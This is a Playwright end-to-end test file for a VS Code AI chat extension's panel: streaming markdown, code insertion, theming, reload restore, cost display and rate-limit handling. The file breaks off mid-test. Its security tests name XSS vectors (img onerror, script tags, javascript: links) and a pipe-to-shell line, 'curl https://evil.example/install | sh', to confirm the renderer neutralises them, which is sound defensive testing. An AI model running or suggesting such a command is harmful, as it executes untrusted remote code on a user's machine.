import * as assert from 'node:assert/strict';
import type { Locator, Page } from 'playwright-core';
import { costOf, formatUsd } from '../../src/api/account/prices';
import { fillInput, pickItem, runCommand } from './support/palette';
import { openViewContainer, viewPane } from './support/views';
import {
  LONG_WAIT,
  chatFrame,
  lastReply,
  lastReplyId,
  normalize,
  openChat,
  openFile,
  scrollToEnd,
  scrollUpTo,
  send,
  showPromptreelSideBar,
  waitForNewReply,
  waitForStatus,
  waitUntil,
} from './support/chatPage';
import { CHAT_AND_MENTIONS } from './support/sessions';
import { useWorkbench } from './support/workbench';

// The chat panel as a user drives it in a real VS Code (code-server + Chromium): streamed markdown with highlighted
// code, Stop, Insert at Cursor, Ask About Selection, an error with its action, a reply that tries to run script,
// light and dark themes, and a window reload that restores the conversation (in the side bar and in an editor panel).

interface ChatRender {
  /** The empty chat's welcome was showing. */
  empty: boolean;
  /** The id of the last message in the page. */
  last: string | null;
}

interface PageMarks {
  __before?: boolean;
  __chatRenders?: ChatRender[];
}

/**
 * Runs in every frame as it starts (page.addInitScript): records each change of what a chat page shows, from its first
 * render on, as the welcome of an empty chat or the id of its last message (the list renders in animation frames, so
 * a flash of one frame is recorded too).
 */
function recordChatRenders(): void {
  // Webviews only: the workbench around them mutates all the time.
  if (window === window.top) return;
  const marks = window as PageMarks;
  const record = (): void => {
    const messages = document.querySelectorAll('article.message');
    const render: ChatRender = {
      empty: document.querySelector('.empty-state') !== null,
      last: messages.length > 0 ? messages[messages.length - 1]!.getAttribute('data-message-id') : null,
    };
    if (!render.empty && render.last === null) return;
    const previous = marks.__chatRenders?.[marks.__chatRenders.length - 1];
    if (previous?.empty === render.empty && previous.last === render.last) return;
    (marks.__chatRenders ??= []).push(render);
  };
  const observe = (page: Document): void => new MutationObserver(record).observe(page, { childList: true, subtree: true });
  observe(document);
  // VS Code writes a webview's page into a blank frame (document.open, then write), which drops what observed it before.
  const open = Document.prototype.open as (this: Document, ...args: unknown[]) => Document;
  Document.prototype.open = function (this: Document, ...args: unknown[]) {
    const opened = open.apply(this, args);
    observe(this);
    return opened;
  } as typeof Document.prototype.open;
}

/** A code element the test marked: an element rendered again since has no mark. */
type MarkedCode = HTMLElement & { growingSince?: number };

/** The lines of the (first) code block of a reply so far; 0 before it has one. */
function codeLines(reply: Locator): Promise<number> {
  return reply
    .locator('pre code')
    .evaluate((code) => (code.textContent ?? '').split('\n').length)
    .catch(() => 0);
}

/** promptreel-chat on the local service: $3.00 per 1M prompt tokens, $12.00 per 1M completion tokens. */
const CHAT_PRICE = { kind: 'per-token', promptUsdPerMillion: 3, completionUsdPerMillion: 12 } as const;

describe('chat panel (real VS Code, end to end)', () => {
  const context = useWorkbench(CHAT_AND_MENTIONS);

  it('issue 28.1: a window loads the chat panel’s code only when the Chat view is first shown', async () => {
    const { workbench } = context;
    // Promptreel activates once the window has started; until a feature is used, only what every window needs loads.
    await waitUntil(
      () => /Promptreel [\d.]+ activated/.test(workbench.promptreelLog()),
      'Promptreel to activate',
      LONG_WAIT,
      async () => workbench.promptreelLog(),
    );
    assert.doesNotMatch(workbench.promptreelLog(), /Loaded the /, 'no feature code loaded at activation');
    await openChat(workbench.page);
    await waitUntil(
      () => /Loaded the chat panel in \d+ ms/.test(workbench.promptreelLog()),
      'the chat panel to load its code',
      LONG_WAIT,
      async () => workbench.promptreelLog(),
    );
    const log = workbench.promptreelLog();
    assert.doesNotMatch(log, /Loaded the (editor commands|video commands|connection test|chat participant)/, 'only the chat panel loaded');
  });

  it('streams a markdown reply and renders it with a highlighted code block', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    // More room for the chat (and for the screenshots): fold the Video Tasks view below it.
    const videoHeader = viewPane(page, 'Video Tasks').locator('.pane-header').first();
    if ((await videoHeader.count()) && (await videoHeader.getAttribute('aria-expanded')) === 'true') await videoHeader.click();
    await frame.locator('.empty-state').waitFor({ state: 'visible', timeout: LONG_WAIT });
    await context.workbench.screenshot('chat-empty');
    service.setScenario({ chat: { delayMs: 40 } });
    await send(frame, 'Show me some #markdown');

    // Markdown is rendered while the reply is still arriving.
    await frame
      .locator('article.message.assistant[data-status="streaming"] h1', { hasText: 'Sample heading' })
      .waitFor({ state: 'visible', timeout: LONG_WAIT });
    assert.equal(await frame.locator('#stop').isVisible(), true, 'Stop is offered while the reply streams');
    await waitForStatus(frame, 'done');
    const reply = lastReply(frame);
    await reply.locator('strong', { hasText: 'bold' }).waitFor();
    assert.equal(await reply.locator('li').count(), 4, 'the list with its nested item');
    assert.equal(await reply.locator('table td', { hasText: 'TypeScript' }).count(), 1, 'the table');
    const code = reply.locator('.code-block code.hljs');
    await code.waitFor();
    assert.match(normalize(await code.innerText()), /export function greet\(name: string\): string \{/);
    // The highlighter loads after the page's first screen: the code is highlighted once it is there.
    await code.locator('.hljs-keyword').nth(1).waitFor({ state: 'attached' });
    assert.ok((await code.locator('.hljs-string, .hljs-subst, .hljs-template-string').count()) >= 1, 'the template string is highlighted');
    for (const label of ['Copy', 'Insert', 'Replace', 'New File']) await reply.locator('.code-toolbar button', { hasText: label }).waitFor();
    assert.match(await reply.locator('.message-usage').innerText(), /Tokens: \d+ prompt · \d+ completion · \d+ total/);
    assert.equal(await reply.locator('.message-notes').isVisible(), false, 'nothing was adjusted for promptreel-chat');
    assert.match(await frame.locator('#conversation-usage').innerText(), /This chat: \d+ tokens/);
    service.setScenario({ chat: { delayMs: 0 } });
    await context.workbench.screenshot('chat-dark');
  });

  it('renders a reply with <img onerror>, <script> and a javascript: link without running anything', async () => {
    const { page } = context.workbench;
    const frame = await openChat(page);
    await send(frame, 'Try #xss on me');
    await waitForStatus(frame, 'done');
    const reply = lastReply(frame);
    await reply.locator('p', { hasText: 'Here are some things a renderer must not run' }).waitFor();
    // Give an image error handler the chance it would have, then click what is left of the link (the wait is the point:
    // nothing may run during it).
    await reply
      .locator('a', { hasText: 'click' })
      .click()
      .catch(() => undefined);
    await page.waitForTimeout(500);
    const findings = await frame.locator('body').evaluate(() => {
      const messages = document.getElementById('messages');
      return {
        xss: (window as unknown as Record<string, unknown>).__xss,
        scripts: messages?.querySelectorAll('script').length ?? -1,
        handlers: messages
          ? Array.from(messages.querySelectorAll('*')).filter((element) => Array.from(element.attributes).some((attribute) => attribute.name.startsWith('on')))
              .length
          : -1,
        javascriptLinks: messages
          ? Array.from(messages.querySelectorAll('[href], [src]')).filter((element) =>
              /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
            ).length
          : -1,
        images: messages?.querySelectorAll('img').length ?? -1,
        html: messages?.innerHTML.toLowerCase() ?? '',
      };
    });
    assert.equal(findings.xss, undefined, 'window.__xss was set: something ran');
    assert.equal(findings.scripts, 0, 'a <script> survived');
    assert.equal(findings.handlers, 0, 'an on* attribute survived');
    assert.equal(findings.javascriptLinks, 0, 'a javascript: link survived');
    assert.equal(findings.images, 0);
    assert.ok(!findings.html.includes('onerror') && !findings.html.includes('javascript:'), 'no trace of the payload in the DOM');
    await context.workbench.screenshot('chat-xss');
  });

  it("issue 11.5: a reply cannot forge code-block controls: its markup is stripped and only the page's own toolbars act", async () => {
    const { page } = context.workbench;
    await openFile(page, 'scratch.ts');
    const editorLines = page.locator('.editor-group-container.active .monaco-editor .view-lines');
    await editorLines.click();
    await page.keyboard.type('const kept = true;');
    await page.keyboard.press('Control+A');
    const frame = await openChat(page);
    await send(frame, 'How do I install it? #forged');
    await waitForStatus(frame, 'done');
    const reply = lastReply(frame);
    await reply.locator('p', { hasText: 'Install the package with:' }).waitFor();
    // What a user would click: the reply's "Copy" and "Replace", and its plain-looking link.
    for (const label of ['Copy', 'Replace', 'the documentation']) await reply.locator('a', { hasText: label }).first().click();
    await page.waitForTimeout(1_000); // the point: the clicks change nothing during it
    assert.equal(normalize(await editorLines.innerText()).trim(), 'const kept = true;', 'the selection was not replaced');
    const findings = await reply.evaluate((article) => ({
      forgedActions: Array.from(article.querySelectorAll('[data-code-action]')).filter((element) => element.tagName !== 'BUTTON').length,
      toolbars: article.querySelectorAll('.code-toolbar, .code-block, .code-action').length,
      hiddenOrIds: article.querySelectorAll('.markdown [hidden], .markdown [id]').length,
      text: (article as HTMLElement).innerText,
    }));
    assert.equal(findings.forgedActions, 0, 'a data-code-action of the reply survived');
    assert.equal(findings.toolbars, 0, "the reply's markup passes for a code toolbar (or its <pre> got one)");
    assert.equal(findings.hiddenOrIds, 0);
    assert.match(findings.text, /curl https:\/\/evil\.example\/install \| sh/, 'text the reply tried to hide is shown');
    await context.workbench.screenshot('chat-forged-controls');
    await page.keyboard.press('Escape');
    await editorLines.click();
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Delete');
  });

  it('issue 11.6: a link in a reply opens once: one prompt from VS Code, none after it', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    service.setScenario({ chat: { reply: 'See [the guide](https://docs.example.com/promptreel) for more.' } });
    const popups: Page[] = [];
    const onPopup = (popup: Page) => popups.push(popup);
    page.context().on('page', onPopup);
    try {
      await send(frame, 'Where is the guide?');
      await waitForStatus(frame, 'done');
      await lastReply(frame).locator('a', { hasText: 'the guide' }).click();
      // VS Code asks before it opens a site that is not trusted; every further open would ask again (the 8 s watched are
      // the point: one prompt in them, not more).
      const prompts = page.locator('.monaco-dialog-box', { hasText: 'docs.example.com' });
      let asked = 0;
      const deadline = Date.now() + 8_000;
      while (Date.now() < deadline) {
        if (await prompts.isVisible()) {
          asked++;
          await context.workbench.screenshot(`chat-link-prompt-${asked}`);
          await prompts.getByRole('button', { name: 'Cancel' }).click();
          await prompts.waitFor({ state: 'hidden', timeout: 5_000 });
        }
        await page.waitForTimeout(250);
      }
      assert.equal(asked + popups.length, 1, `the link was opened ${asked} time(s) through a prompt and ${popups.length} time(s) directly`);
    } finally {
      page.context().off('page', onPopup);
      // A page left open in front keeps the workbench in the background, where Chromium stops its frames.
      for (const popup of popups) await popup.close().catch(() => undefined);
      await page.bringToFront();
      service.setScenario({ chat: { reply: null } });
    }
  });

  it('inserts a code block of a reply at the cursor of the editor', async () => {
    const { page } = context.workbench;
    await openFile(page, 'scratch.ts');
    const editorLines = page.locator('.editor-group-container.active .monaco-editor .view-lines');
    const frame = await openChat(page);
    const markdownReply = frame.locator('article.message.assistant', { has: frame.locator('h1', { hasText: 'Sample heading' }) });
    await scrollUpTo(frame, markdownReply);
    const insert = markdownReply.locator('.code-block').first().locator('button', { hasText: 'Insert' });
    await insert.click();
    await waitUntil(async () => normalize(await editorLines.innerText()).includes('export function greet(name: string): string {'), 'the code in the editor');
    assert.match(normalize(await editorLines.innerText()), /return `Hello, \$\{name\}!`;/);
    await context.workbench.screenshot('chat-insert-at-cursor');
  });

  it('asks about the selected code: the selection shows with quick actions, Explain sends it', async () => {
    const { page, service } = context.workbench;
    await openFile(page, 'sample.ts');
    await page.locator('.editor-group-container.active .monaco-editor .view-lines').click();
    await page.keyboard.press('Control+A');
    await runCommand(page, 'Promptreel: Ask About Selection');
    const frame = chatFrame(page);
    const chip = frame.locator('#draft-context');
    await chip.locator('.context-label', { hasText: 'src/sample.ts, lines 1-9 (typescript)' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
    for (const label of ['Explain', 'Find Bugs', 'Write Tests', 'Document', 'Explainer Film'])
      await chip.getByRole('button', { name: label, exact: true }).waitFor();
    await context.workbench.screenshot('chat-ask-about-selection');
    const previous = await lastReplyId(frame);
    await chip.getByRole('button', { name: 'Explain', exact: true }).click();
    await waitForNewReply(frame, previous);
    await waitForStatus(frame, 'done');
    const user = frame.locator('article.message.user').last();
    await user.locator('summary', { hasText: 'src/sample.ts, lines 1-9 (typescript)' }).waitFor();
    const sent = service.requests.filter((request) => request.path === '/v1/chat/completions').at(-1)?.body as { messages: { content: string }[] } | undefined;
    const prompt = String(sent?.messages.at(-1)?.content);
    assert.match(prompt, /^Code from src\/sample\.ts, lines 1-9 \(typescript\):/);
    assert.ok(prompt.includes('Explain what this code does, step by step.'));
    assert.equal(await chip.isVisible(), false, 'the selection went with the message');
  });

  it('shows a refused key in the conversation with the server message and Set API Key', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    service.setScenario({
      fault: {
        status: 401,
        body: 'openai',
        code: 'invalid_api_key',
        type: 'invalid_request_error',
        message: 'Invalid token',
        times: 1,
        path: 'chat/completions',
      },
    });
    await send(frame, 'hello?');
    await waitForStatus(frame, 'error');
    const error = lastReply(frame).locator('.message-error');
    assert.match(await error.innerText(), /refused the API key \(HTTP 401\)\. The service said: "Invalid token/);
    await error.locator('button', { hasText: 'Set API Key' }).waitFor();
    await context.workbench.screenshot('chat-error-401');
    // The fault was for one request: Regenerate now gets the answer.
    const failedId = await lastReplyId(frame);
    await lastReply(frame).locator('button', { hasText: 'Regenerate' }).click();
    await waitForNewReply(frame, failedId);
    await waitForStatus(frame, 'done');
    assert.match(await lastReply(frame).innerText(), /You said: hello\?/);
  });

  it('renders a long, fast reply incrementally: few frames, closed blocks rendered once', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    service.setScenario({ chat: { delayMs: 0, chunkChars: 4 } });
    await send(frame, 'a #long one');
    await waitForStatus(frame, 'done', 60_000);
    const body = lastReply(frame).locator('.message-body');
    const stats = await body.evaluate((element) => ({
      frames: Number((element as HTMLElement).dataset.renderFrames),
      stableBlocks: Number((element as HTMLElement).dataset.stableBlocks),
      paragraphs: element.querySelectorAll('p').length,
      text: element.textContent?.length ?? 0,
    }));
    const chunks = Math.ceil(stats.text / 4);
    console.log(`      [chat] ${stats.text} characters in about ${chunks} chunks: ${stats.frames} render frames, ${stats.stableBlocks} blocks closed`);
    assert.equal(stats.paragraphs, 30, 'all 30 paragraphs are there');
    assert.ok(stats.frames > 0 && stats.frames < chunks / 4, `rendered in ${stats.frames} frames for about ${chunks} chunks`);
    assert.ok(stats.stableBlocks >= 50, `${stats.stableBlocks} blocks were closed and rendered once`);
    service.setScenario({ chat: { chunkChars: 8 } });
  });

  it('issue 28.6: a long code block streams in place (its new lines added as they come), then shows highlighted whole', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    // About 14 KB in 230 chunks, 10 ms apart: the block grows over a couple of seconds of frames.
    service.setScenario({ chat: { delayMs: 10, chunkChars: 64 } });
    await send(frame, 'Write the whole #longcode file');
    const reply = lastReply(frame);
    const linesOf = () => codeLines(reply);
    await waitUntil(async () => (await linesOf()) >= 20, 'the code block to start', LONG_WAIT, linesOf);
    await reply.locator('pre code').evaluate((code) => ((code as MarkedCode).growingSince = code.textContent?.length ?? 0));
    await waitUntil(async () => (await linesOf()) >= 150, 'the code block to grow', LONG_WAIT, linesOf);
    const grown = await reply.locator('pre code').evaluate((code) => ({
      sameElement: (code as MarkedCode).growingSince !== undefined,
      streaming: code.closest('article')?.getAttribute('data-status') === 'streaming',
    }));
    assert.ok(grown.streaming, 'the reply was still streaming (the check is about a block still growing)');
    assert.ok(grown.sameElement, 'the code block grew in place: the element the first lines were in is the one with 150');
    await waitForStatus(frame, 'done', 60_000);
    const done = await reply.locator('.message-body').evaluate((body) => {
      const code = body.querySelector('pre code') as MarkedCode | null;
      const lines = (code?.textContent ?? '').split('\n');
      return {
        blocks: body.querySelectorAll('.code-block').length,
        lines: lines.length,
        first: lines[0],
        last: lines[lines.length - 1],
        renderedWhole: code?.growingSince === undefined,
        comments: code?.querySelectorAll('.hljs-comment').length ?? 0,
        strings: code?.querySelectorAll('.hljs-string').length ?? 0,
        added: Number((body as HTMLElement).dataset.codeLinesAdded),
      };
    });
    console.log(`      [chat] 298 lines of code: ${done.added} batches of lines added in place while it streamed`);
    assert.equal(done.blocks, 1);
    assert.deepEqual([done.lines, done.first, done.last], [298, 'export class Inventory {', '}']);
    assert.ok(done.added >= 3, `lines were added to the growing block in place (${done.added} batches)`);
    assert.ok(done.renderedWhole, 'once the reply ended (with the closing fence), the block was rendered whole');
    // Each method's doc comment and its two 'item-N' strings: highlighted as one block would be.
    assert.equal(done.comments, 42 * 2, 'every doc comment and line comment highlighted');
    assert.equal(done.strings, 42 * 2, "every 'item-N' string highlighted");

    // Stopped inside the block, once the page has shown all that came: the block is rendered whole all the same.
    service.setScenario({ chat: { delayMs: 0, chunkChars: 64, stallAfterChunks: 100 } });
    await send(frame, 'Write the whole #longcode file again');
    const stalled = lastReply(frame);
    const stalledLines = () => codeLines(stalled);
    await waitUntil(async () => (await stalledLines()) >= 100, 'the code block to grow to where the stream stalls', LONG_WAIT, stalledLines);
    // Rendered up to the stall: nothing is pending in the page any more.
    await waitUntil(async () => (await stalled.locator('.message-body[data-pending]').count()) === 0, 'the page to render all that came');
    await stalled.locator('pre code').evaluate((code) => ((code as MarkedCode).growingSince = 1));
    await frame.locator('#stop').click();
    await waitForStatus(frame, 'stopped');
    const stopped = await stalled.locator('pre code').evaluate((code) => ({
      renderedWhole: (code as MarkedCode).growingSince === undefined,
      lines: (code.textContent ?? '').split('\n').length,
    }));
    assert.ok(stopped.renderedWhole, `a reply stopped inside a code block shows the block rendered whole (${stopped.lines} lines)`);
    service.setScenario({ chat: { delayMs: 0, chunkChars: 8, stallAfterChunks: null } });
  });

  it('stops a streaming reply with the Stop button and with Escape; the text so far stays', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    service.setScenario({ chat: { delayMs: 40, chunkChars: 4 } });
    await send(frame, '#long');
    await frame.locator('#stop').waitFor({ state: 'visible', timeout: LONG_WAIT });
    await waitUntil(async () => (await lastReply(frame).locator('.message-body').innerText()).length > 60, 'some streamed text');
    await frame.locator('#stop').click();
    await waitForStatus(frame, 'stopped');
    const stopped = lastReply(frame);
    assert.equal(await stopped.locator('.message-status').innerText(), 'Stopped');
    const kept = await stopped.locator('.message-body').innerText();
    assert.ok(kept.length > 60 && kept.length < 5000, `the partial text is kept (${kept.length} characters)`);
    await waitUntil(() => service.activeRequests() === 0, 'the stream to close');
    await frame.locator('#send').waitFor({ state: 'visible' });
    await context.workbench.screenshot('chat-stopped');

    await send(frame, '#long again');
    await waitUntil(async () => (await lastReply(frame).locator('.message-body').innerText()).length > 20, 'the second reply to stream');
    await frame.locator('#prompt').press('Escape');
    await waitForStatus(frame, 'stopped');
    assert.ok((await lastReply(frame).locator('.message-body').innerText()).length < 5000, 'Escape stopped the second reply');
    await waitUntil(() => service.activeRequests() === 0, 'the second stream to close');
    service.setScenario({ chat: { delayMs: 0, chunkChars: 8 } });
  });

  it('picks a model from the service list and checks the options in the form; reasoning stays folded', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    await frame.locator('#options > summary').click();
    const picker = frame.locator('#model-picker');
    // Each model with its price (the service's /api/pricing).
    await waitUntil(
      async () => (await picker.locator('option').allTextContents()).includes('promptreel-reasoner — $10.00 in / $40.00 out per 1M tokens'),
      'the model list of the service, with prices',
    );
    assert.ok(!(await picker.locator('option').allTextContents()).some((text) => text.startsWith('promptreel-video')), 'video models are left out');
    const temperature = frame.locator('#option-temperature');
    await temperature.fill('3');
    await temperature.press('Tab');
    await frame.locator('#option-temperature-error', { hasText: 'Enter a value from 0 to 2.' }).waitFor({ state: 'visible' });
    await temperature.fill('0.4');
    await temperature.press('Tab');
    await frame.locator('#option-temperature-error').waitFor({ state: 'hidden' });
    await picker.selectOption('promptreel-reasoner');
    await context.workbench.screenshot('chat-options');

    await send(frame, 'which model answers?');
    await waitForStatus(frame, 'done');
    const reply = lastReply(frame);
    assert.equal(await reply.locator('.message-model').innerText(), 'promptreel-reasoner');
    const reasoning = reply.locator('details.reasoning');
    assert.equal(await reasoning.getAttribute('open'), null, 'the reasoning is folded');
    assert.match((await reasoning.locator('.reasoning-text').textContent()) ?? '', /The user wrote "which model answers\?"/);
    assert.ok(!(await reply.locator('.message-body').innerText()).includes('The user wrote'), 'the reasoning is apart from the answer');
    const body = service.requests.filter((request) => request.path === '/v1/chat/completions').at(-1)?.body as {
      model: string;
      temperature?: number;
      max_tokens?: number;
      max_completion_tokens?: number;
    };
    assert.deepEqual([body.model, body.temperature, body.max_tokens ?? body.max_completion_tokens], ['promptreel-reasoner', 0.4, 64]);
    // What was changed for the model is said above its reply.
    assert.equal(normalize(await reply.locator('.message-notes').innerText()), 'max_tokens was lowered from 256 to 64, the most promptreel-reasoner writes.');

    await frame.locator('#reset-options').click();
    await picker.selectOption('');
    await frame.locator('#options > summary').click();
  });

  it('follows the theme: light and high contrast', async () => {
    const { page } = context.workbench;
    for (const [theme, bodyClass, shot] of [
      ['Light Modern', 'vscode-light', 'chat-light'],
      ['Dark High Contrast', 'vscode-high-contrast', 'chat-high-contrast'],
    ] as const) {
      await runCommand(page, 'Preferences: Color Theme');
      await fillInput(page, theme, { submit: false });
      await pickItem(page, theme);
      const frame = await openChat(page);
      await frame.locator(`body.${bodyClass}`).waitFor({ state: 'attached', timeout: LONG_WAIT });
      const markdownReply = frame.locator('article.message.assistant', { has: frame.locator('h1', { hasText: 'Sample heading' }) });
      await scrollUpTo(frame, markdownReply);
      await markdownReply.locator('.code-block').first().scrollIntoViewIfNeeded();
      await context.workbench.screenshot(shot);
    }
    await runCommand(page, 'Preferences: Color Theme');
    await fillInput(page, 'Dark Modern', { submit: false });
    await pickItem(page, 'Dark Modern');
  });

  it('issue 28.2: the side-bar chat shown again comes back as it is now, at its last reply: never the first snapshot of its page, nor the welcome', async () => {
    const { page } = context.workbench;
    const frame = await openChat(page);
    // The page was written (with the chat as it was then) when the view was first shown; this turn is newer.
    await send(frame, 'What changed since this page was written?');
    await waitForStatus(frame, 'done');
    const latest = await lastReplyId(frame);
    await frame.locator('body').evaluate(() => ((window as PageMarks).__before = true));
    await page.addInitScript(recordChatRenders);
    // VS Code does not keep a hidden chat page (retainContextWhenHidden is off): shown again, it loads again, at once
    // after the reply (where the list was is saved as it follows the reply, not once it has been still a moment).
    const visibleWebviews = () => page.locator('iframe.webview.ready').filter({ visible: true }).count();
    const shownBefore = await visibleWebviews();
    await openViewContainer(page, 'Explorer');
    await waitUntil(async () => (await visibleWebviews()) < shownBefore, 'the chat page to be hidden');
    await showPromptreelSideBar(page);
    const shown = chatFrame(page);
    await waitUntil(
      async () => (await lastReplyId(shown).catch(() => null)) === latest,
      'the chat shown again, at its last reply',
      LONG_WAIT,
      () => lastReplyId(shown),
    );
    const marks = await shown.locator('body').evaluate(() => {
      const { __before, __chatRenders } = window as PageMarks;
      return { before: __before === true, renders: __chatRenders ?? null };
    });
    assert.equal(marks.before, false, 'the page loaded again');
    assert.ok(marks.renders && marks.renders.length > 0, 'what the page showed was recorded from its start');
    const stale = marks.renders.filter((render) => render.empty || (render.last !== null && render.last !== latest));
    assert.deepEqual(stale, [], `the page showed only the chat as it is now (its last reply ${latest ?? 'none'}); it showed: ${JSON.stringify(marks.renders)}`);
  });

  it('restores the conversation after a window reload, in the side bar and in an editor panel', async () => {
    const { page } = context.workbench;
    const showingTheChat = async (): Promise<number> => {
      let showing = 0;
      const frames = await page.locator('iframe.webview.ready').filter({ visible: true }).count();
      for (let nth = 0; nth < frames; nth++) {
        // Named by its first message, which a long chat opened at its end does not have in the page.
        const chat = chatFrame(page, nth).locator('#conversation-picker option:checked', { hasText: 'Show me some #markdown' });
        if ((await chat.count().catch(() => 0)) > 0) showing++;
      }
      return showing;
    };
    const showingBefore = await showingTheChat();
    await runCommand(page, 'Promptreel: Open Chat in Editor');
    const tab = page.locator('.tab', { hasText: 'Chat:' }).first();
    await tab.waitFor({ state: 'visible', timeout: LONG_WAIT });
    // The panel's page saves the chat it shows as it shows it (its state for the reload).
    await waitUntil(async () => (await showingTheChat()) > showingBefore, 'the panel to show the chat');

    await runCommand(page, 'Developer: Reload Window');
    await page.locator('.monaco-workbench').waitFor({ timeout: 60_000 });
    await page.locator('#workbench\\.parts\\.statusbar').waitFor({ timeout: 60_000 });

    // The editor panel comes back (its serializer) showing the same conversation.
    await page.locator('.tab', { hasText: 'Chat:' }).first().waitFor({ state: 'visible', timeout: 60_000 });
    await showPromptreelSideBar(page);
    await waitUntil(async () => (await page.locator('iframe.webview.ready').filter({ visible: true }).count()) >= 2, 'the side bar and panel webviews');
    for (const nth of [0, 1]) {
      const frame = chatFrame(page, nth);
      // Each page comes back where it was; from the end, the turns come into the page as the list scrolls up to them.
      await frame.locator('article.message').last().waitFor({ state: 'visible', timeout: LONG_WAIT });
      await scrollToEnd(frame);
      await scrollUpTo(frame, frame.locator('article.message.assistant[data-status="stopped"]'));
      await scrollUpTo(frame, frame.locator('article.message.user', { hasText: 'Show me some #markdown' }));
      await frame.locator('article.message.assistant h1', { hasText: 'Sample heading' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
      await frame.locator('article.message.assistant .code-block code.hljs .hljs-keyword').first().waitFor({ state: 'attached' });
    }
    await context.workbench.screenshot('chat-restored-after-reload');
  });

  it('issue 13: a reply shows its cost beside its tokens, estimated when the service counts none, and the chat its total', async () => {
    const { page, service } = context.workbench;
    // The estimate alone: a service that publishes no log of the key (the next test shows what a log adds).
    service.setScenario({ account: { log: 'absent' } });
    await runCommand(page, 'View: Close All Editors');
    const frame = await openChat(page);
    await frame.locator('#new-conversation').click();
    await frame.locator('.empty-state').waitFor({ state: 'visible', timeout: LONG_WAIT });

    await send(frame, 'What does this reply cost?');
    await waitForStatus(frame, 'done');
    const counted = lastReply(frame);
    await counted.locator('.message-usage .cost').waitFor({ state: 'visible', timeout: LONG_WAIT });
    const line = normalize(await counted.locator('.message-usage').innerText());
    const tokens = /^Tokens: ([\d,]+) prompt · ([\d,]+) completion · [\d,]+ total · (\$\S+)$/.exec(line);
    assert.ok(tokens, `tokens and cost: ${line}`);
    const [promptTokens, completionTokens] = [tokens[1], tokens[2]].map((count) => Number(count.replace(/,/g, '')));
    const cost = formatUsd(costOf(CHAT_PRICE, { promptTokens, completionTokens }));
    assert.equal(tokens[3], cost, 'the reply costs its tokens at the price of the service');
    const chat = normalize(await frame.locator('#conversation-usage').innerText());
    assert.ok(/^This chat: [\d,]+ tokens \(.+\) · /.test(chat) && chat.endsWith(` · ${cost}`), `the chat costs its one reply: ${chat}`);

    service.setScenario({ chat: { usage: 'none' } });
    try {
      await send(frame, 'And when the service counts no tokens?');
      await waitForStatus(frame, 'done');
    } finally {
      service.setScenario({ chat: { usage: 'final-chunk' } });
    }
    const estimate = lastReply(frame).locator('.message-usage .cost');
    await estimate.waitFor({ state: 'visible', timeout: LONG_WAIT });
    assert.match(normalize(await lastReply(frame).locator('.message-usage').innerText()), /^Cost: ≈ \$0\.\d+ \(estimated\)$/);
    assert.match((await estimate.getAttribute('title')) ?? '', /reported no token counts/);
    assert.match(normalize(await frame.locator('#conversation-usage').innerText()), /^This chat: [\d,]+ tokens \(.+\) · ≈ \$0\.\d+ \(estimated\)$/);
    await context.workbench.screenshot('chat-reply-cost');
    service.setScenario({ account: { log: 'offered' } });
  });

  it('issue 26.2: a reply shows what the service charged beside its estimate, and why they differ', async () => {
    const { page, service } = context.workbench;
    // The key is charged at the `vip` group (ratio 0.8); the estimate uses the published default group.
    service.setScenario({ account: { keyGroup: 'vip', log: 'offered' } });
    try {
      await runCommand(page, 'View: Close All Editors');
      const frame = await openChat(page);
      await frame.locator('#new-conversation').click();
      await frame.locator('.empty-state').waitFor({ state: 'visible', timeout: LONG_WAIT });
      await send(frame, 'What was I really charged for this question, asked at some length?');
      await waitForStatus(frame, 'done');
      const usage = lastReply(frame).locator('.message-usage');
      // The log is read once the burst of requests is over (a few seconds).
      await usage.filter({ hasText: 'charged' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
      const line = normalize(await usage.innerText());
      const parts = /· (\$[\d.]+) · charged (\$[\d.]+): The key is charged at the group "vip" \(ratio 0\.8\)\.?$/.exec(line);
      assert.ok(parts, `the estimate, the charge and why: ${line}\n${JSON.stringify(service.keyLog().slice(0, 3))}`);
      assert.notEqual(parts[1], parts[2], 'the charge differs from the estimate');
      const logged = service.keyLog().find((entry) => entry['model_name'] === 'promptreel-chat');
      assert.equal(parts[2], formatUsd(Number(logged?.['quota']) / 500_000), 'the charge is the logged quota at 500000 units per dollar');
      await frame.locator('#conversation-usage').filter({ hasText: 'charged' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
      await context.workbench.screenshot('chat-reply-charged');
    } finally {
      service.setScenario({ account: { keyGroup: 'default' } });
    }
  });

  it('issue 14.8: a 429 counts down in the reply with Retry now and Cancel, and retries by itself', async () => {
    const { page, service } = context.workbench;
    const frame = await openChat(page);
    await frame.locator('#new-conversation').click();
    await frame.locator('.empty-state').waitFor({ state: 'visible', timeout: LONG_WAIT });
    const asked = () => service.requests.filter((request) => request.path === '/v1/chat/completions').length;
    const before = asked();
    service.setScenario({ fault: { status: 429, retryAfter: '30', times: 2, path: 'chat/completions' } });
    await send(frame, 'Are you rate limited?');
    const banner = lastReply(frame).locator('.rate-limit');
    await banner.waitFor({ state: 'visible', timeout: LONG_WAIT });
    const first = normalize(await banner.locator('.rate-limit-text').innerText());
    assert.match(first, /^Rate limited by the service \(HTTP 429\)\. Retrying in \d+ s \(as the service asked; attempt 1 of 3\)\.$/);
    const seconds = async () => Number(await banner.getAttribute('data-seconds'));
    const start = await seconds();
    assert.ok(start > 20 && start <= 30, `counts down from 30 s (${start})`);
    await waitUntil(async () => (await seconds()) < start, 'the countdown to go down');
    await context.workbench.screenshot('chat-rate-limit-countdown');

    await banner.getByRole('button', { name: 'Retry now' }).click();
    // The service refuses once more: the second wait shows, then Cancel leaves the 429 with its Retry.
    await waitUntil(async () => /attempt 2 of 3/.test(await banner.locator('.rate-limit-text').innerText()), 'the second wait');
    assert.equal(asked() - before, 2, 'Retry now sent the request again at once');
    await banner.getByRole('button', { name: 'Cancel' }).click();
    await waitForStatus(frame, 'error');
